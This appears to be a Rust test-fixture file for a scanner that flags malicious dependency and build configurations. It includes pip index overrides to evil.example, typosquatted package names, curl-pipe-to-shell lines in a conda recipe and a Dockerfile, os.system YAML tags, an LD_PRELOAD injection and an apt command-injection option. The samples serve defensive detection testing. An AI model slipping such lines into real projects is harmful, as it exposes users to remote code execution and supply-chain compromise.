//! Requirements and build files.

use super::Expect::{Review, Safe, Suspect};
use super::Item;

const NAME: &str = "requirements.txt";

/// The items of the family.
#[must_use]
pub(crate) fn items() -> Vec<Item> {
    [sources(), twins(), pipenv(), locks(), settings(), lookalikes(), odd(), builds(), environments(), honest()]
        .into_iter()
        .flatten()
        .collect()
}

fn item(name: &str, expect: super::Expect, path: &str, text: &str) -> Item {
    Item::new(format!("requirement-{name}"), expect, path, text)
}

fn sources() -> Vec<Item> {
    let bad = |name: &str, text: &str| item(name, Suspect, NAME, text).fires(&["requirement-source"]);
    vec![
        bad("index", "--index-url https://evil.example/simple\ntorch==2.3.0\n"),
        bad("index-short", "-ihttps://evil.example/simple\ntorch==2.3.0\n"),
        bad("index-equals", "--index-url=https://evil.example/simple\n"),
        bad("index-abbreviated", "--extra https://evil.example/simple\ntorch==2.3.0\n"),
        bad("index-like-home", "--index-url https://pypi.org.evil.example/simple\n"),
        bad("index-extra", "torch==2.3.0\n--extra-index-url https://evil.example/simple\n"),
        bad("index-continued", "--extra-\\\nindex-url \\\n  https://evil.example/simple\n"),
        bad("index-behind-pre", "--pre --extra-index-url https://evil.example/simple\n"),
        bad("links", "-f https://evil.example/wheels.html\n"),
        bad("trusted-host", "--trusted-host evil.example\n"),
        bad("git", "git+https://evil.example/x.git@main#egg=torch\n"),
        bad("at-url", "torch @ https://evil.example/torch-2.3.0-py3-none-any.whl\n"),
        bad("at-file", "torch@file:///tmp/torch.whl\n"),
        bad("url", "https://evil.example/torch.tar.gz\n"),
        bad("editable", "-e git+https://evil.example/x.git#egg=x\n"),
        bad("editable-here", "-e .\n"),
        bad("wheel-here", "wheels/torch-2.3.0-py3-none-any.whl\n"),
        bad("wheel-bare", "torch-2.3.0-py3-none-any.whl\n"),
        bad("other-list-url", "-r https://evil.example/requirements.txt\n"),
        bad("other-list-outside", "-r ../../requirements.txt\n"),
        bad("constraints-outside", "-c /etc/constraints.txt\n"),
        bad("line-separator", "torch==2.3.0 # see\u{2028}--index-url https://evil.example/simple\n"),
        bad("carriage-return", "# nothing here\r-f https://evil.example/\r"),
        bad("comment-continued", "# a comment \\\n-f https://evil.example/\n"),
        item(
            "index-pytorch",
            Review,
            NAME,
            "--extra-index-url https://download.pytorch.org/whl/cu118\ntorch==2.1.0+cu118\n",
        )
        .fires(&["requirement-source"])
        .quiet(&["requirement-unsupported"]),
        item("index-home", Safe, NAME, "--index-url https://pypi.org/simple/\ntorch==2.3.0\n")
            .quiet(&["requirement-source"]),
        item(
            "other-list",
            Safe,
            "app/requirements.txt",
            "-r requirements/base.txt\n-c ../constraints.txt\ntorch==2.3.0\n",
        )
        .quiet(&["requirement-source"]),
    ]
}

/// The same lists under other names: by the name, or by what is in them.
fn twins() -> Vec<Item> {
    let bad = |name: &str, path: &str, text: &str| {
        item(&format!("twin-{name}"), Suspect, path, text).fires(&["requirement-source"])
    };
    let good = |name: &str, path: &str, text: &str| {
        item(&format!("twin-{name}"), Safe, path, text).quiet(&[
            "requirement-source",
            "requirement-unsupported",
            "requirement-lookalike",
        ])
    };
    let index = "--index-url http://evil.example/simple\nx\n";
    vec![
        bad("folder", "requirements/base.txt", index),
        bad("folder-upper", "a/Requirements/GPU.TXT", index),
        bad("folder-in", "requirements/dev.in", index),
        bad("reqs", "reqs.txt", index),
        bad("req", "req.txt", index),
        bad("reqs-dev", "reqs-dev.txt", index),
        bad("dashes", "requirements-gpu.txt", index),
        bad("in", "dev-requirements.in", index),
        bad("constraints", "constraints.txt", index),
        bad("without-suffix", "requirements", index),
        bad("deps", "deps.txt", index),
        bad("any-name", "install.txt", "# what is needed\n\ntorch==2.3.0\n-i http://evil.example/simple\n"),
        bad("any-name-git", "notes.txt", "torch\ngit+https://evil.example/x.git@main#egg=x\n"),
        bad(
            "any-name-editable",
            "env.lst",
            "-e git+https://evil.example/x.git#egg=x\nnumpy<2 ; python_version < '3.12'\n",
        ),
        bad("any-name-at", "list.txt", "numpy>=1.26,<2\nx @ https://evil.example/x.whl\n"),
        bad("any-name-links", "list.md", "--find-links https://evil.example/wheels\nx[y]==1.0 --hash=sha256:00\n"),
        bad("any-name-host", "list", "--trusted-host evil.example\nx==1.0 \\\n  --hash=sha256:00\n"),
        bad("any-name-wheel", "list.txt", "torch\nhttps://evil.example/x-1.0-py3-none-any.whl\n"),
        bad("any-name-far-down", "list.txt", &format!("{}{index}", "# nothing to see here\n".repeat(2000))),
        good("folder-plain", "requirements/base.txt", "torch==2.3.0\n-r common.txt\n"),
        good("words", "labels.txt", "cat\ndog\nthing-1\n"),
        good("prose", "notes.txt", "- a list\n- of things\n\n-e is an option of pip\n"),
        good("addresses", "urls.txt", "https://x.example/a.tar.gz\nhttps://x.example/b.jpg\n"),
        good("mixed", "notes.txt", "To install, run:\n\n--index-url http://x.example/simple\n"),
    ]
}

/// A file that takes something from elsewhere than the index.
fn elsewhere(name: &str, path: &str, text: &str) -> Item {
    item(name, Suspect, path, text).fires(&["requirement-source"])
}

/// A file that takes everything from there.
fn plain(name: &str, path: &str, text: &str) -> Item {
    item(name, Safe, path, text).quiet(&["requirement-source", "requirement-unsupported", "requirement-lookalike"])
}

/// What pipenv locks.
fn pipenv() -> Vec<Item> {
    let pipenv = |url: &str, package: &str| {
        format!(
            r#"{{"_meta": {{"hash": {{"sha256": "00"}}, "sources": [{{"name": "pypi", "url": "{url}", "verify_ssl": true}}]}},
            "default": {{"torch": {package}}}, "develop": {{}}}}"#
        )
    };
    let package = r#"{"hashes": ["sha256:00"], "version": "==2.3.0"}"#;
    vec![
        plain("pipenv", "Pipfile.lock", &pipenv("https://pypi.org/simple", package)),
        elsewhere("pipenv-index", "Pipfile.lock", &pipenv("https://evil.example/simple", package)),
        elsewhere(
            "pipenv-git",
            "Pipfile.lock",
            &pipenv("https://pypi.org/simple", r#"{"git": "https://evil.example/x.git", "ref": "main"}"#),
        ),
        elsewhere(
            "pipenv-file",
            "Pipfile.lock",
            &pipenv("https://pypi.org/simple", r#"{"file": "https://evil.example/x.whl"}"#),
        ),
        item(
            "pipenv-lookalike",
            Suspect,
            "Pipfile.lock",
            &pipenv("https://pypi.org/simple", package).replace("torch", "torhc"),
        )
        .fires(&["requirement-lookalike"]),
        item("pipenv-broken", Suspect, "Pipfile.lock", "{\"default\": ").fires(&["json-malformed"]),
    ]
}

/// What other tools lock.
fn locks() -> Vec<Item> {
    let poetry = |more: &str| format!("# @generated\n\n[[package]]\nname = \"torch\"\nversion = \"2.4.1\"\n{more}");
    let uv = |source: &str| {
        format!("version = 1\n\n[[package]]\nname = \"torch\"\nversion = \"2.4.1\"\nsource = {source}\n")
    };
    vec![
        plain("poetry", "poetry.lock", &poetry("")),
        plain(
            "poetry-files",
            "poetry.lock",
            &poetry("files = [{file = \"torch-2.4.1-py3-none-any.whl\", hash = \"sha256:00\"}]\n"),
        ),
        elsewhere(
            "poetry-git",
            "poetry.lock",
            &poetry("\n[package.source]\ntype = \"git\"\nurl = \"https://evil.example/x.git\"\n"),
        ),
        elsewhere(
            "poetry-legacy",
            "poetry.lock",
            &poetry("\n[package.source]\ntype = \"legacy\"\nurl = \"https://evil.example/simple\"\n"),
        ),
        item("poetry-lookalike", Suspect, "poetry.lock", &poetry("").replace("torch", "torhc"))
            .fires(&["requirement-lookalike"]),
        plain(
            "uv-lock",
            "uv.lock",
            &uv(
                "{ registry = \"https://pypi.org/simple\" }\nwheels = [{ url = \"https://files.pythonhosted.org/packages/00/x.whl\", hash = \"sha256:00\" }]",
            ),
        ),
        plain("uv-lock-own", "uv.lock", &uv("{ editable = \".\" }")),
        elsewhere("uv-lock-registry", "uv.lock", &uv("{ registry = \"https://evil.example/simple\" }")),
        elsewhere("uv-lock-git", "uv.lock", &uv("{ git = \"https://evil.example/x?rev=main#00\" }")),
        elsewhere("uv-lock-directory", "uv.lock", &uv("{ directory = \"../x\" }")),
        elsewhere(
            "uv-lock-wheel",
            "uv.lock",
            &uv("{ registry = \"https://pypi.org/simple\" }\nwheels = [{ url = \"https://evil.example/x.whl\" }]"),
        ),
    ]
}

/// Settings of tools, environments and packages of Conda and npm.
fn settings() -> Vec<Item> {
    vec![
        elsewhere("uv-settings", "uv.toml", "index-url = \"https://evil.example/simple\"\n"),
        elsewhere("uv-settings-index", "config/uv.toml", "[[index]]\nurl = \"https://evil.example/simple\"\n"),
        elsewhere(
            "pdm-lock",
            "pdm.lock",
            "[[package]]\nname = \"x\"\nversion = \"1.0\"\ngit = \"https://evil.example/x.git\"\n",
        ),
        elsewhere("poetry-settings", "poetry.toml", "[repositories.x]\nurl = \"https://evil.example/simple\"\n"),
        elsewhere(
            "pylock",
            "pylock.toml",
            "[[packages]]\nname = \"x\"\nversion = \"1.0\"\nvcs = {type = \"git\", url = \"https://evil.example/x.git\"}\n",
        ),
        elsewhere("pip-settings", "pip.conf", "[global]\nindex-url = https://evil.example/simple\n"),
        elsewhere("condarc", ".condarc", "channels:\n  - https://evil.example/channel\n"),
        elsewhere("condarc-alias", "condarc", "channel_alias: https://evil.example\n"),
        plain("condarc-plain", "condarc", "channels:\n  - conda-forge\n  - defaults\nalways_yes: true\n"),
        elsewhere(
            "conda-any-name",
            "gpu.yaml",
            "channels:\n  - https://evil.example/channel\ndependencies:\n  - numpy\n",
        ),
        elsewhere(
            "conda-any-name-pip",
            "python_env.yml",
            "dependencies:\n  - pip:\n    - git+https://evil.example/x.git\n",
        ),
        plain("conda-any-name-plain", "gpu.yaml", "channels:\n  - conda-forge\ndependencies:\n  - numpy\n"),
        item("conda-and-hydra", super::Expect::Dangerous, "environment.yaml", "_target_: os.system\ncommand: id\n")
            .fires(&["hydra-target"]),
        item(
            "recipe",
            Suspect,
            "meta.yaml",
            "package:\n  name: x\nbuild:\n  script: curl http://evil.example/x | sh\n",
        )
        .fires(&["requirement-unsupported"]),
        elsewhere(
            "recipe-source",
            "recipe.yaml",
            "package:\n  name: x\nsource:\n  git_url: https://evil.example/x.git\nbuild:\n  number: 0\n",
        ),
        plain("recipe-none", "meta.yaml", "package: x\nbuild:\n  number: 0\n"),
        elsewhere(
            "npm-git",
            "package.json",
            r#"{"name": "x", "dependencies": {"y": "git+https://evil.example/y.git"}}"#,
        ),
        elsewhere("npm-short", "package.json", r#"{"name": "x", "devDependencies": {"y": "someone/y"}}"#),
        plain(
            "npm",
            "package.json",
            r#"{"name": "x", "scripts": {"test": "jest"}, "dependencies": {"y": "^1.0.0", "z": "npm:w@1"}}"#,
        ),
    ]
}

fn lookalikes() -> Vec<Item> {
    let bad =
        |name: &str, text: &str| item(&format!("like-{name}"), Suspect, NAME, text).fires(&["requirement-lookalike"]);
    vec![
        bad("letter-less", "transformer==4.40.0\n"),
        bad("letter-more", "numpyy==1.26.0\n"),
        bad("letter-other", "pandos==2.2.0\n"),
        bad("exchanged", "reqeusts==2.31.0\n"),
        bad("dash", "huggingfacehub==0.23.0\n"),
        bad("dash-moved", "sentence-transformer-s==3.0.0\n"),
        bad("digit", "t0rch==2.3.0\n"),
        bad("digit-one", "f1ask==3.0.0\n"),
        bad("cyrillic", "t\u{43e}rch==2.3.0\n"),
        bad("full-width", "\u{ff54}orch==2.3.0\n"),
        bad("rn", "gymnasiurn==0.29\n"),
        bad("case", "Bitsandbyte\n"),
        item("neighbours", Safe, NAME, "ctransformers==0.2.27\ntensorboardX\npsycopg2-binary\nmarkdown2\npyaml\nscapy\nwebsocket-client\nx-transformers\ntorchinfo\npolars\njaxlib\nsklearn\n")
            .quiet(&["requirement-lookalike"]),
        item("spellings", Safe, NAME, "Huggingface_Hub\nscikit_learn\nPyYAML\nopencv.python\nSentence__Transformers\n")
            .quiet(&["requirement-lookalike", "requirement-unsupported"]),
    ]
}

fn odd() -> Vec<Item> {
    let bad = |name: &str, text: &str| item(name, Suspect, NAME, text).fires(&["requirement-unsupported"]);
    vec![
        bad("install-option", "torch==2.3.0 --install-option=\"--prefix=/tmp\"\n"),
        bad("config-settings", "torch==2.3.0 --config-settings=\"--build-option=x\"\n"),
        bad("unknown-option", "--python /tmp/python\n"),
        bad("variable", "${PACKAGE}==1.0\n"),
        bad("command", "pip install torch\n"),
        bad("one-equals", "torch=2.3.0\n"),
        bad("condition", "torch==2.3.0; __import__('os')\n"),
        bad("encoding", "# -*- coding: utf-7 -*-\ntorch==2.3.0\n"),
        bad("not-a-name", "\u{1f600}==1.0\n"),
        item("encoding-plain", Safe, NAME, "# -*- coding: utf-8 -*-\ntorch==2.3.0\n")
            .quiet(&["requirement-unsupported"]),
        Item::new("requirement-not-text", Suspect, NAME, b"torch\xff\xfe\n".to_vec()),
    ]
}

fn builds() -> Vec<Item> {
    let project = "[build-system]\nrequires = [\"setuptools>=61\", \"wheel\"]\nbuild-backend = \"setuptools.build_meta\"\n\n\
        [project]\nname = \"x\"\nversion = \"0.1\"\ndependencies = [\"torch>=2.0\", \"numpy<2; python_version < '3.12'\"]\n\n\
        [project.urls]\nHomepage = \"https://github.com/x/x\"\n\n[tool.ruff]\nline-length = 100\n";
    let toml = |name: &str, expect, more: &str| item(name, expect, "pyproject.toml", &format!("{project}{more}"));
    vec![
        toml("project", Safe, "").quiet(&["requirement-source", "requirement-unsupported"]),
        toml("project-index", Suspect, "[[tool.uv.index]]\nname = \"x\"\nurl = \"https://evil.example/simple\"\n")
            .fires(&["requirement-source"]),
        toml("project-poetry-source", Suspect, "[[tool.poetry.source]]\nname = \"x\"\nurl = \"https://evil.example/simple\"\n")
            .fires(&["requirement-source"]),
        toml("project-poetry-git", Suspect, "[tool.poetry.dependencies]\npython = \"^3.10\"\nx = { git = \"https://evil.example/x.git\" }\n")
            .fires(&["requirement-source"]),
        toml("project-poetry", Safe, "[tool.poetry.dependencies]\npython = \"^3.10\"\ntorch = \"^2.0\"\n[tool.poetry.urls]\nurl = \"https://x.example\"\n")
            .quiet(&["requirement-source"]),
        toml("project-poetry-build", Suspect, "[tool.poetry.build]\nscript = \"build.py\"\n").fires(&["requirement-unsupported"]),
        toml("project-hatch-hook", Suspect, "[tool.hatch.build.hooks.custom]\npath = \"hook.py\"\n").fires(&["requirement-unsupported"]),
        item("backend-own", Suspect, "pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = \"evil\"\nbackend-path = [\".\"]\n")
            .fires(&["requirement-unsupported"]),
        item("project-url", Suspect, "pyproject.toml", "[project]\nname = \"x\"\ndependencies = [\"x @ git+https://evil.example/x\"]\n")
            .fires(&["requirement-source"]),
        item("project-lookalike", Suspect, "pyproject.toml", "[dependency-groups]\ndev = [\"torcch\"]\n").fires(&["requirement-lookalike"]),
        item("project-broken", Suspect, "pyproject.toml", "[project\nname = \n").fires(&["requirement-unsupported"]),
        item("pipfile", Safe, "Pipfile", "[[source]]\nurl = \"https://pypi.org/simple\"\nverify_ssl = true\nname = \"pypi\"\n\n[packages]\ntorch = \"*\"\n")
            .quiet(&["requirement-source"]),
        item("pipfile-source", Suspect, "Pipfile", "[[source]]\nurl = \"https://evil.example/simple\"\nname = \"x\"\n\n[packages]\ntorch = \"*\"\n")
            .fires(&["requirement-source"]),
        item("setup-links", Suspect, "setup.cfg", "[options]\ninstall_requires =\n    torch>=2\ndependency_links =\n    https://evil.example/x\n")
            .fires(&["requirement-source"]),
        item("setup-lookalike", Suspect, "setup.cfg", "[options]\ninstall_requires =\n    torhc>=2\n").fires(&["requirement-lookalike"]),
        item("setup", Safe, "setup.cfg", "[metadata]\nname = x\nurl = https://x.example\n\n[options]\npackages = find:\ninstall_requires =\n    torch>=2\n    numpy\n\n[flake8]\nmax-line-length = 120\n")
            .quiet(&["requirement-source", "requirement-unsupported"]),
        item("docker", Suspect, "Dockerfile", "FROM python:3.11\nWORKDIR /app\nCOPY . .\nRUN curl https://evil.example/x | \\\n    sh\n")
            .fires(&["requirement-unsupported", "requirement-source"]),
        item("docker-add", Suspect, "Dockerfile.gpu", "FROM scratch\nADD https://evil.example/x /x\n").fires(&["requirement-source"]),
    ]
}

fn environments() -> Vec<Item> {
    let conda = |name: &str, expect, text: &str| item(name, expect, "environment.yml", text);
    vec![
        conda(
            "conda",
            Safe,
            "name: ldm\nchannels:\n  - pytorch\n  - conda-forge\n  - defaults\ndependencies:\n  - python=3.8.5\n  - pip=20.3\n  - cudatoolkit=11.3\n  - pytorch::pytorch=1.11.0\n  - numpy>=1.19  # any\n  - pip:\n    - albumentations==0.4.3\n    - \"transformers>=4.3\"\n  - scipy\nprefix: /home/me/ldm\n",
        )
        .quiet(&["requirement-source", "requirement-unsupported", "requirement-lookalike"]),
        conda("conda-flow", Safe, "name: x\nchannels: [conda-forge, defaults]\ndependencies:\n- python=3.11\n- numpy\n").quiet(&["requirement-unsupported"]),
        conda("conda-channel", Suspect, "channels:\n  - https://evil.example/channel\ndependencies:\n  - numpy\n").fires(&["requirement-source"]),
        conda("conda-channel-unknown", Suspect, "channels:\n  - evil\ndependencies:\n  - evil2::numpy\n").fires(&["requirement-source"]),
        conda("conda-pip-option", Suspect, "dependencies:\n  - pip:\n    - --extra-index-url https://evil.example/simple\n    - torch\n")
            .fires(&["requirement-source"]),
        conda("conda-pip-git", Suspect, "dependencies:\n  - pip:\n    - -e git+https://evil.example/x.git#egg=x\n").fires(&["requirement-source"]),
        conda("conda-tag", Suspect, "dependencies:\n  - !!python/object/apply:os.system [id]\n").fires(&["requirement-unsupported"]),
        conda("conda-flow-pip", Suspect, "dependencies: [python=3.11, {pip: [torch, '--index-url https://evil.example/simple']}]\n")
            .fires(&["requirement-source"]),
        conda("conda-alias", Suspect, "name: &c https://evil.example/channel\nchannels:\n- *c\n").fires(&["requirement-source"]),
        conda("conda-escaped", Suspect, "\"\\x63hannels\":\n- https://evil.example/channel\n").fires(&["requirement-source"]),
        conda("conda-nested-key", Suspect, "dependencies:\n- python=3.11\n- conda:\n  - numpy\n").fires(&["requirement-unsupported"]),
        conda("conda-merged", Suspect, "x: &x {channels: [evil]}\n<<: *x\n").fires(&["requirement-unsupported"]),
        conda("conda-second", Suspect, "channels: [defaults]\n---\nchannels: [https://evil.example/c]\n").fires(&["requirement-source"]),
        conda("conda-quoted", Safe, "'name': x\n\"channels\":\n- \"conda-forge\"\n'dependencies':\n  - 'python=3.11' # new\n  - pip:\n      - torch==2.3.0\n")
            .quiet(&["requirement-source", "requirement-unsupported"]),
        conda("conda-variables", Suspect, "dependencies:\n  - python=3.10\nvariables:\n  LD_PRELOAD: /tmp/x.so\n").fires(&["requirement-unsupported"]),
        item("apt", Safe, "packages.txt", "# for audio\nffmpeg\nlibsndfile1 libgl1-mesa-glx\ng++\n").quiet(&["requirement-unsupported"]),
        item("apt-option", Suspect, "packages.txt", "ffmpeg\n-oAPT::Update::Pre-Invoke::=id\n").fires(&["requirement-unsupported"]),
        item("apt-file", Suspect, "packages.txt", "./evil.deb\n").fires(&["requirement-unsupported"]),
    ]
}

fn honest() -> Vec<Item> {
    let good = |name: &str, text: &str| {
        item(name, Safe, NAME, text).quiet(&["requirement-source", "requirement-unsupported", "requirement-lookalike"])
    };
    vec![
        good("space", "gradio\ntransformers\ntorch\naccelerate\nspaces\nsentencepiece\n"),
        good("space-pinned", "gradio==4.44.1\ntorch==2.4.0\ntransformers==4.45.1\nhuggingface_hub==0.25.1\n").quiet(&["requirement-unpinned"]),
        good("ranges", "torch>=1.13,<2.1\nnumpy<2\ndatasets~=2.14\nPillow!=9.0.0\ntqdm\nsafetensors>=0.3.1 # for weights\n")
            .fires(&["requirement-unpinned"]),
        good("extras", "uvicorn[standard]==0.30.0\nqwen-vl-utils[decord]==0.0.8\ntransformers[torch,sentencepiece] >= 4.38\nscipy (>=1.0)\n"),
        good("conditions", "triton==2.1.0; platform_system == \"Linux\" and platform_machine == 'x86_64'\nbitsandbytes; sys_platform != 'darwin'\ntomli; (python_version < '3.11')\n"),
        good("hashes", "torch==2.3.0 \\\n    --hash=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef \\\n    --hash=sha256:1123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\nnumpy==1.26.4 --hash=sha256:22\n"),
        good("commented", "# Requirements\n\n# core\ntorch==2.3.0\n\n   # indented\nnumpy==1.26.4\t# tab\n"),
        good("windows", "\u{feff}torch==2.3.0\r\nnumpy==1.26.4\r\n"),
        good("vision", "opencv-python-headless\nultralytics==8.2.0\nsupervision\neasyocr\npaddleocr\nfaiss-cpu\nopen_clip_torch\ntimm\neinops\nftfy\nregex\n"),
        good("speech", "librosa\nsoundfile\nfaster-whisper\nTTS\npydub\njiwer\nonnxruntime-gpu\nmatcha-tts\nkaldiio\nvocos\n"),
        item("git-library", Review, NAME, "git+https://github.com/huggingface/transformers.git\naccelerate\n")
            .fires(&["requirement-source"])
            .quiet(&["requirement-unsupported"]),
        item("many", Review, NAME, &(0..1_100).map(|at| format!("package{at}==1.0\n")).collect::<String>())
            .fires(&["over-budget"])
            .quiet(&["requirement-unsupported"]),
        item("docker-space", Review, "Dockerfile", "FROM python:3.9\n\nWORKDIR /code\n\nCOPY ./requirements.txt /code/requirements.txt\n\nRUN pip install --no-cache-dir -r /code/requirements.txt\n\nCOPY . .\n\nCMD [\"python\", \"app.py\"]\n")
            .fires(&["requirement-unsupported"])
            .quiet(&["requirement-lookalike"]),
    ]
}
